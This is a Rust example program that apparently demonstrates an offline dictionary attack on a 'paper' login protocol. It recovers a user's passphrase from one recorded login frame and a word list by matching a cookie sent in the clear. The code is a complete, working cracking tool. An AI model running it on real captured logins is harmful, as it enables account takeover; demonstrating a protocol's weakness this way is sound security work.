//! The attack on the paper's login: a recorded login and a word list yield the passphrase, offline.
//!
//! `cargo run --release -p sealstone-login --example dictionary -- RECORDING.json WORDS.txt`, where
//! the recording has the form of `docs/standards/vectors/login.json` (frames, and the client's
//! address, which is in every packet's header).

#![allow(clippy::print_stdout, clippy::print_stderr, reason = "a program for a terminal")]
#![allow(dead_code, reason = "a test uses the attack without the program")]

use std::net::IpAddr;
use std::process::ExitCode;
use std::time::Instant;

use sealstone_login::paper::PassphraseKey;
use sealstone_mds_protocol::paper::{CookieRequest, Init, PaperHeader, PaperType};
use sealstone_mds_protocol::{HEADER_BYTES, UserName, decode_message};

/// The part of a recording that a guess can be compared with: the cookie that the client sends in
/// the clear.
pub(crate) struct Recorded {
    pub(crate) user: UserName,
    pub(crate) cookie: [u8; 8],
    pub(crate) client: IpAddr,
}

impl Recorded {
    /// Parses the first frame of a login, as it was on the wire, and the address that it came from.
    pub(crate) fn from_frame(frame: &[u8], client: IpAddr) -> Option<Self> {
        let (header, body) = frame.split_first_chunk::<HEADER_BYTES>()?;
        let (user, cookie) = match PaperHeader::parse(header).ok()?.kind {
            PaperType::CookieRequest => {
                let request: CookieRequest = decode_message(body).ok()?;
                (request.user, request.client_cookie)
            }
            PaperType::Init => {
                let init: Init = decode_message(body).ok()?;
                (init.user, init.client_cookie)
            }
            _ => return None,
        };
        Some(Self { user, cookie, client })
    }

    /// Takes two hashes per guess, and no server can notice.
    pub(crate) fn guess<'a>(&self, words: impl IntoIterator<Item = &'a str>) -> Option<&'a str> {
        words
            .into_iter()
            .find(|word| PassphraseKey::derive(&self.user, word).cookie(self.client) == self.cookie)
    }
}

fn recordings(path: &str) -> Option<Vec<Recorded>> {
    let file: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).ok()?).ok()?;
    let one = |vector: &serde_json::Value| {
        let text = vector["frames"]["init"].as_str()?;
        let bytes: Option<Vec<u8>> =
            (0..text.len()).step_by(2).map(|at| u8::from_str_radix(text.get(at..at + 2)?, 16).ok()).collect();
        Recorded::from_frame(&bytes?, vector["client_address"].as_str()?.parse().ok()?)
    };
    file["vectors"].as_array()?.iter().map(one).collect()
}

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let [recording, words] = &arguments[..] else {
        eprintln!("usage: dictionary RECORDING.json WORDS.txt");
        return ExitCode::from(2);
    };
    let (Some(recorded), Ok(words)) = (recordings(recording), std::fs::read_to_string(words)) else {
        eprintln!("dictionary: {recording} is no recording, or {words} cannot be read");
        return ExitCode::FAILURE;
    };
    for recorded in recorded {
        let started = Instant::now();
        let mut guesses = 0u64;
        let found = recorded.guess(words.lines().inspect(|_| guesses += 1));
        let seconds = started.elapsed().as_secs_f64();
        let rate = guesses as f64 / seconds.max(1e-9);
        match found {
            Some(word) => println!("{}: '{word}' after {guesses} guesses, {rate:.0} a second", recorded.user),
            None => println!("{}: not among {guesses} words, {rate:.0} a second", recorded.user),
        }
    }
    ExitCode::SUCCESS
}
